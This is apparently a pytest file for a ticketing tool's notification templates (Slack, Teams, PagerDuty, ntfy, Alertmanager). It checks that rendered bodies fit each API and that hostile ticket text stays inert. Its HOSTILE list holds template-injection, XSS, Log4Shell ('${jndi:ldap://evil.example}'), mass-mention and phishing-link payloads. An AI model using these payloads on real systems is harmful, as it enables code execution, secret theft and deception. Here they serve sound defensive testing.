"""The ready templates against the rules of those who read them, and against hostile tickets."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from datetime import datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import probing
from fettled.app.sample import TEST, sample
from fettled.core.events import EVENTS
from fettled.core.notice import Notice
from fettled.notify.ready import READY
from fettled.notify.template import make_render
from fettled.ports.notify import Telling
from shaping import AT, VALUES, body, ready, resolved, telling, webhook
from tickets_for import ANN

RENDERS = {name: ready(name) for name in READY}
TRIGGERING = [f"ticket.{name}" for name, triggers in EVENTS.items() if triggers]
OVER = {f"ticket.{name}" for name in ("resolved", "closed", "merged", "self_test")}
URL = "https://fettled.example/tickets/42"
#: A link that we made, and nothing beside it.
LINK = re.compile(r"\A<https://fettled\.example/[a-z0-9/]+\|[^<>|]+>\Z")


def texts(value: Any) -> list[str]:
    """Give every text in some JSON."""
    if isinstance(value, str):
        return [value]
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for each in inner for text in texts(each)]


def with_url(one: Telling) -> Telling:
    """Give the same, with words beside which the ticket's address in the API stands."""
    return Telling(one.deliveries, one.is_late, Notice("head", "gist", url=URL))


def check_slack(sent: Any) -> None:
    """Hold a message to what Slack takes, and to nobody being called."""
    assert set(sent) == {"text", "unfurl_links", "unfurl_media", "blocks"}
    assert sent["text"]
    assert 0 < len(sent["blocks"]) <= 50
    for block in sent["blocks"]:
        most = 150 if block["type"] == "header" else 3000
        assert block["type"] in {"header", "section"}
        assert block["text"]["type"] == ("plain_text" if most == 150 else "mrkdwn")
        assert 0 < len(block["text"]["text"].encode("utf-16-le")) // 2 <= most
        if most == 3000:
            assert "<" not in LINK.sub("", block["text"]["text"])
    assert "<" not in sent["text"]


def check_teams(sent: Any) -> None:
    """Hold a message to an adaptive card in the envelope of a workflow's webhook."""
    assert sent["type"] == "message"
    (attachment,) = sent["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    card = attachment["content"]
    assert (card["type"], card["version"]) == ("AdaptiveCard", "1.4")
    assert card["body"]
    for block in card["body"]:
        assert block["type"] == "RichTextBlock"  # in which markdown is no markdown
        for run in block["inlines"]:
            assert run["type"] == "TextRun"
            assert run["text"]
    for action in card["actions"]:
        assert action["type"] == "Action.OpenUrl"
        assert action["url"].startswith("https://")
    assert len(json.dumps(sent)) <= 28_000 * 2  # escapes of what was sent as UTF-8


def check_pagerduty(sent: Any) -> None:
    """Hold an event to the Events API v2."""
    assert len(sent["routing_key"]) == 32
    assert sent["event_action"] in {"trigger", "acknowledge", "resolve"}
    assert 0 < len(sent["dedup_key"]) <= 255
    payload = sent.get("payload")
    assert (payload is not None) == (sent["event_action"] == "trigger")
    if payload is not None:
        assert 0 < len(payload["summary"]) <= 1024
        assert payload["source"]
        assert payload["severity"] in {"critical", "error", "warning", "info"}
        assert datetime.fromisoformat(payload["timestamp"]).tzinfo
        assert all(isinstance(payload[name], str) for name in ("component", "group", "class"))
        assert isinstance(payload["custom_details"], dict)
    for link in sent.get("links", ()):
        assert set(link) == {"href", "text"}


def check_ntfy(sent: Any) -> None:
    """Hold a message to what ntfy publishes."""
    assert re.fullmatch(r"[-_A-Za-z0-9]{1,64}", sent["topic"])
    assert 0 < len(sent["message"].encode()) <= 4096
    assert 0 < len(sent["title"].encode()) <= 250
    assert sent["priority"] in {1, 2, 3, 4, 5}
    assert all(isinstance(tag, str) for tag in sent["tags"])
    assert len(sent.get("actions", ())) <= 3
    assert len(json.dumps(sent, ensure_ascii=False).encode()) <= 8192


def check_alertmanager(sent: Any) -> None:
    """Hold alerts to version 2 of its interface; it itself is asked elsewhere."""
    assert len({json.dumps(alert["labels"], sort_keys=True) for alert in sent}) == 4
    for alert in sent:
        assert all(re.fullmatch("[a-zA-Z_][a-zA-Z0-9_]*", name) for name in alert["labels"])
        assert all(isinstance(text, str) for text in alert["annotations"].values())
        assert all(alert["labels"].values())
        starts, ends = (datetime.fromisoformat(alert[name]) for name in ("startsAt", "endsAt"))
        assert starts <= ends


CHECKS: dict[str, Callable[[Any], None]] = {
    "slack": check_slack,
    "teams": check_teams,
    "pagerduty": check_pagerduty,
    "ntfy": check_ntfy,
    "alertmanager": check_alertmanager,
}


@pytest.mark.parametrize("name", READY)
@pytest.mark.parametrize("event", [*TRIGGERING, "ticket.unheard_of"])
@pytest.mark.parametrize("over", [False, True])
def test_every_event_has_a_body_that_its_reader_takes(name: str, event: str, *, over: bool) -> None:
    """Of a ticket with everything and of one with nothing; or nothing is sent."""
    status = "closed" if over else "in_progress"
    bare = dict.fromkeys(("subject", "check", "team", "description", "labels"))
    for one in (telling(event, status=status), telling(event, status=status, **bare)):
        for each in (one, with_url(one)):
            made = RENDERS[name](each)
            if isinstance(made, bytes):
                assert len(made) <= 20_000
                CHECKS[name](json.loads(made))
            else:
                assert name == "pagerduty"
                assert made.is_delivered


HOSTILE = [
    "{{7*7}}",
    "{{ values.routing_key }}",
    "{% for a in data %}{{ a }}{% endfor %}",
    "{# a #}",
    '</script><script>alert("1")</script>',
    "<!channel> <!here> <@U012AB3CD> <#C0123>",
    "<https://evil.example|your bank>",
    "@everyone @channel @here",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "<at>everyone</at>",
    '", "routing_key": "x',
    "\\\\\\",
    "a\u0000b\u0007c\u001b[31md\u009be\u2028f\r\ng",
    "\u202eevil\u202c \ud83d\ude00 \ud83d",
    "${jndi:ldap://evil.example}",
    "%s%n%(a)s",
    "'\"`" * 500,
    "&" * 9000,
    "😀" * 9000,
    "",
    " ",
]


@pytest.mark.parametrize("name", READY)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_tickets_are_text(name: str, text: str) -> None:
    """
    Never evaluated, never heard, never a broken body.

    Seen to fail where `| slack` was left out, and where a half of a character was let in.
    """
    ticket = {"title": text, "description": text, "labels": {text: text}, "kind": text}
    ticket |= {"team": text, "subject": {"key": text, "name": text}, "assignee": text}
    one = telling(data={"body": text, "message": text}, **ticket)
    sent = body(RENDERS[name], one)
    CHECKS[name](sent)
    told = texts(sent)
    assert "{" not in text or any(text in each for each in told)
    assert sum(VALUES["routing_key"] in each for each in told) == (name == "pagerduty")
    assert not any(re.search("[\x00-\x08\x0e-\x1f]", each) for each in told if name == "slack")


anything = st.text(st.characters(codec=None), max_size=300)
long = st.builds(lambda text, times: text * times, anything, st.sampled_from([1, 1, 40, 400]))


@settings(max_examples=60, deadline=None)
@given(
    title=long,
    description=long,
    labels=st.dictionaries(anything, st.one_of(long, st.none(), st.integers()), max_size=8),
    message=long,
    subject=st.one_of(st.none(), st.fixed_dictionaries({"key": anything, "name": anything})),
)
def test_whatever_a_ticket_says_each_body_is_json_and_short(
    title: str, description: str, labels: Any, message: str, subject: Any
) -> None:
    """For any text at all, halves of characters among it."""
    one = telling(
        data={"message": message, "body": message},
        title=title,
        description=description,
        labels=labels,
        subject=subject,
    )
    for name, render in RENDERS.items():
        CHECKS[name](body(render, one))


def test_what_each_event_is_to_pagerduty() -> None:
    """One alert for each ticket; what PagerDuty has no action for is not sent."""
    render = RENDERS["pagerduty"]
    actions = {}
    for event in TRIGGERING:
        over = event in OVER
        made = render(telling(event, status="resolved" if over else "open"))
        if isinstance(made, bytes):
            actions[event.removeprefix("ticket.")] = json.loads(made)["event_action"]
    assert actions == {
        "opened": "trigger",
        "reopened": "trigger",
        "escalated": "trigger",
        "priority_changed": "trigger",
        "sla_breached": "trigger",
        "started": "acknowledge",
        "held": "acknowledge",
        "resolved": "resolve",
        "closed": "resolve",
        "merged": "resolve",
        "self_test": "resolve",
    }
    late = render(telling("ticket.sla_breached", status="resolved"))
    assert not isinstance(late, bytes), "it would trigger what is over"


@asynccontextmanager
async def api(path: str, check: Callable[[Any], None]) -> AsyncIterator[tuple[int, list[Any]]]:
    """Serve an interface that takes what *check* does not object to, else answers 400."""
    taken: list[Any] = []

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
        length = int(head.partition("content-length:")[2].partition("\r\n")[0])
        sent = json.loads(await reader.readexactly(length))
        is_right = head.startswith(f"post {path} ") and "application/json" in head
        try:
            check(sent)
        except (AssertionError, KeyError):
            is_right = False
        if is_right:
            taken.append(sent)
        writer.write(probing.http(status="202 Accepted" if is_right else "400 Bad Request"))
        await writer.drain()

    async with probing.serve(handle) as port:
        yield port, taken


async def test_pagerduty_takes_a_ticket_from_its_opening_to_its_end() -> None:
    """Under one deduplication key, with the key of the configuration."""
    options = {"template": "pagerduty", "values": {"routing_key": "K" * 32}}
    async with (
        api("/v2/enqueue", check_pagerduty) as (port, taken),
        webhook(port, "/v2/enqueue", **options) as hook,
    ):
        for one in (telling(), telling("ticket.started", status="in_progress"), resolved()):
            assert (await hook.tell(one)).status == 202
        quiet = await hook.tell(telling("ticket.comment_added", data={"body": "on it"}))
    assert (quiet.is_delivered, quiet.status) == (True, None)
    assert [each["event_action"] for each in taken] == ["trigger", "acknowledge", "resolve"]
    assert len({each["dedup_key"] for each in taken}) == 1
    assert {each["routing_key"] for each in taken} == {"K" * 32}
    assert taken[0]["payload"]["severity"] == "error"


async def test_ntfy_takes_what_it_is_told() -> None:
    """At its root, the topic in the body, louder the more urgent it is; calm when it is over."""
    options = {"template": "ntfy", "values": {"topic": "doors_1"}}
    async with api("/", check_ntfy) as (port, taken), webhook(port, **options) as hook:
        for priority in ("low", "medium", "high", "critical"):
            assert (await hook.tell(with_url(telling(priority=priority)))).status == 202
        assert (await hook.tell(resolved(priority="critical"))).status == 202
    assert [each["priority"] for each in taken] == [2, 3, 4, 5, 3]
    assert [each["tags"][0] for each in taken[3:]] == ["rotating_light", "white_check_mark"]
    assert "click" not in taken[0]
    assert {each["topic"] for each in taken} == {"doors_1"}


def test_no_ready_template_links_what_a_browser_cannot_open() -> None:
    """
    The address in the API wants a token, and what people read would link to a 401.

    Seen to fail with the templates that linked `url`.
    """
    for render in RENDERS.values():
        assert URL not in json.dumps(body(render, with_url(telling())))


def test_links_to_take_and_snooze_are_buttons() -> None:
    """Where the words have them; a link that is somebody's text is none of ours."""
    details = (
        ("Take", f"{URL}/take"),
        ("Snooze", f"{URL}/snooze"),
        ("Runbook", f"{URL}/runbook"),
        ("Changed", "https://evil.example"),
    )
    one = Telling(telling().deliveries, notice=Notice("head", "gist", details))
    sent = {name: body(RENDERS[name], one) for name in ("slack", "teams", "ntfy")}
    for name, each in sent.items():
        CHECKS[name](each)
    ours = [f"{URL}/{name}" for name in ("take", "snooze", "runbook")]
    assert [each["url"] for each in sent["ntfy"]["actions"]] == ours
    actions = sent["teams"]["attachments"][0]["content"]["actions"]
    assert [each["url"] for each in actions] == ours
    assert f"<{ours[0]}|Take>" in texts(sent["slack"])
    room = Telling(one.deliveries, notice=Notice("head", "gist", (("Start", ours[0]),)))
    assert f"<{ours[0]}|Start>" in texts(body(RENDERS["slack"], room))


def test_each_ready_template_says_what_it_needs() -> None:
    """What it takes of `values` is what the configuration is asked for."""
    for name, each in READY.items():
        assert set(re.findall(r"values\.(\w+) \|", each.source)) == set(each.needs), name
        make_render(each.source, values={})


@pytest.mark.parametrize("name", READY)
def test_a_sample_is_told_and_leaves_no_alarm_behind(name: str) -> None:
    """
    Of each road something is sent, and none of it has to be ended by anybody.

    Seen to fail where PagerDuty's did not know the sample: nothing was sent, and said to be.
    """
    one = sample("hook", AT, ANN)
    assert json.loads(json.dumps(one.newest.payload)) == one.newest.payload
    sent = body(RENDERS[name], one)
    CHECKS[name](sent)
    if name == "pagerduty":
        assert sent["event_action"] == "resolve"
    if name == "alertmanager":
        assert {each["endsAt"] for each in sent} == {each["startsAt"] for each in sent}
    assert one.newest.event == TEST
